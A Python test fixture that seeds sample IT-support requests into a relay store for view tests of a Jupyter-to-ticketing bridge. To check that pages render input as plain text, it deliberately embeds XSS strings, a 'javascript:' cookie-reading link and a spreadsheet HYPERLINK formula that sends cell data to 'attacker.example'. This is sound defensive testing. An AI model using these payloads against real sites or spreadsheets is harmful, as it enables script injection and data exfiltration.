"""Requests as the relay stores them, for IT's view tests (unit, CLI, browser, screenshot).

Each request is forwarded to the real relay (its ``RelayService`` in process, or its HTTP API
with each user's token): validation, redaction, the ticket body exactly as sent, and the
cross-user dedupe (the first user's request carries the ticket and the requesters list; a
further user's request for the same open problem is its own row, parked with
``meta.duplicate_of``, and adds a "+1 from <user>: <justification>" comment).
Hostile texts (HTML, a spreadsheet formula, a ``javascript:`` ticket link) are included on
purpose: the page must show them as text.
"""

from __future__ import annotations

import time
import uuid as uuidlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from jupyter_itbridge.findings import RequestDraft

DAY = 86400.0
XSS_SUMMARY = "<script>alert('pwned')</script> Please install <b>bold</b>"
XSS_BODY_LINE = '<img src=x onerror="alert(1)">'
FORMULA_SUMMARY = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for details")'
FORMULA_JUSTIFICATION = "-2+3 is what the spreadsheet should never compute"
ORACLE = "Oracle Instant Client is missing"
MEMORY = "Kernel stopped at its 4 GiB memory limit"
PYSPARK = "pyspark is not installed"
RT_99 = "http://rt.example/99"
JS_LINK = "javascript:alert(document.cookie)"


@dataclass
class Seeded:
    """What was stored: request ids by a short name, for the tests' expectations."""

    ids: dict[str, int] = field(default_factory=dict)
    uuids: dict[str, str] = field(default_factory=dict)
    rows: int = 0


def _draft(summary: str, kind: str | None, subject: str | None, **extra: Any) -> RequestDraft:
    return RequestDraft(
        summary=summary,
        description=extra.pop("description", f"Found by jupyter-itbridge: {summary}"),
        justification=extra.pop("justification", ""),
        kind=kind,
        subject=subject,
        environment={"python": "3.11.2", "kernel": "python3", "os": "Debian GNU/Linux 12"},
        **extra,
    )


#: ``forward(user, body) -> request uuid``: the relay's forward call, in process or over HTTP.
Forward = Callable[[str, dict[str, Any]], str]


def forward_body(draft: RequestDraft) -> dict[str, Any]:
    """The body a single-user server's ``hub`` backend posts to ``api/v1/requests``."""
    return {"uuid": str(uuidlib.uuid4()), "draft": draft.to_dict()}


def seed(store: Any, forward: Forward, settle: Callable[[], None] | None = None) -> Seeded:
    """Nine requests from six users, filed through ``forward``; see the module docstring.

    ``store`` is the relay's store (the same database): it backdates the requests and then
    sets the states the relay's outbox and status sync would set (delivered with a ticket,
    failed, resolved, cancelled). ``settle()`` runs in between (e.g. wait until a running
    relay's outbox has made its first delivery attempts).
    """
    out = Seeded()

    def add(name: str, user: str, draft: RequestDraft, days_ago: float) -> None:
        uuid = forward(user, forward_body(draft))
        store.update_fields(uuid, created_at=time.time() - days_ago * DAY)
        out.ids[name], out.uuids[name] = store.get_request(uuid)["id"], uuid
        out.rows += 1

    sklearn = "scikit-learn is not installed in this environment."
    for user, days, why in (
        ("alice", 10, "Course on ML, week 3"),
        ("bob", 8, "Churn model for the sales team"),
        ("carol", 3, ""),
        ("dave", 1, "Same here: <b>urgent</b> for the board report"),
    ):
        draft = _draft(sklearn, "missing_package", "scikit-learn", justification=why)
        add(f"sklearn_{user}", user, draft, days)
    add("oracle_bob", "bob", _draft(ORACLE, "missing_driver", "oracle-client"), 2)
    add("memory_carol", "carol", _draft(MEMORY, "resource_limit", "memory"), 20)
    add(
        "formula_erin",
        "erin",
        _draft(FORMULA_SUMMARY, "blocked_package", "openai", justification=FORMULA_JUSTIFICATION),
        0.1,
    )
    description = f"Details:\n{XSS_BODY_LINE}\nThanks"
    add("xss_frank", "frank", _draft(XSS_SUMMARY, None, None, description=description), 4)
    add("pyspark_alice", "alice", _draft(PYSPARK, "missing_package", "pyspark"), 6)
    if settle is not None:
        settle()

    uuid = out.uuids
    store.transition(
        uuid["sklearn_alice"],
        "sent",
        note="delivered",
        ticket_id="RT-101",
        ticket_url="http://rt.example/Ticket/Display.html?id=101",
        attempts=1,
        last_error=None,
    )
    store.transition(
        uuid["oracle_bob"],
        "failed",
        note="delivery failed",
        attempts=3,
        last_error="RTBackend.token was rejected by http://rt.example (HTTP 401).",
        next_attempt_at=time.time() + 1800,
    )
    store.transition(
        uuid["memory_carol"], "sent", ticket_id="RT-99", ticket_url=RT_99, last_error=None
    )
    store.transition(uuid["memory_carol"], "resolved", note="RT says resolved")
    store.transition(
        uuid["xss_frank"], "sent", ticket_id="X-1", ticket_url=JS_LINK, last_error=None
    )
    store.transition(uuid["pyspark_alice"], "cancelled", note="cancelled by the user")
    return out
